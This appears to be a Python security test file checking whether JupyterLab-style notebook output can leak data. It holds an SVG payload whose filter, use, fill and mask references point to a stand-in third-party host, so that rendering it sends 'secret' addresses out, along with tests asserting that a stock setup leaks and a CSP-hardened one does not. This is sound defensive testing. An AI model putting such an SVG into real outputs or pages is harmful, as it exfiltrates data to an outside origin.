"""Print an SVG whose parts are elsewhere: filters, masks, fills, used shapes, the address being the data.

Way: browser
Control: JupyterLab at the stock hub, where the third party hears it
Held by: `img-src` and `default-src` let no other origin in; from tier 2 on such an SVG is taken out
"""

OUTPUT = """
<svg width="50" height="50">
<defs><filter id="f"><feImage href="THIRD/secret"/></filter></defs>
<use href="THIRD/secret-2#a"/>
<rect width="9" height="9" filter="url(#f)"/>
<rect width="9" height="9" fill="url(THIRD/secret-3#a)" mask="url(THIRD/secret-4#m)"/>
</svg>
"""


def test_control_the_third_party_hears_it(stock_screen, third_party) -> None:
    stock_screen.show(OUTPUT, third_party)
    third_party.hears("secret")


def test_the_third_party_hears_nothing(any_screen, third_party) -> None:
    any_screen.show(OUTPUT, third_party)
    third_party.hears_nothing()
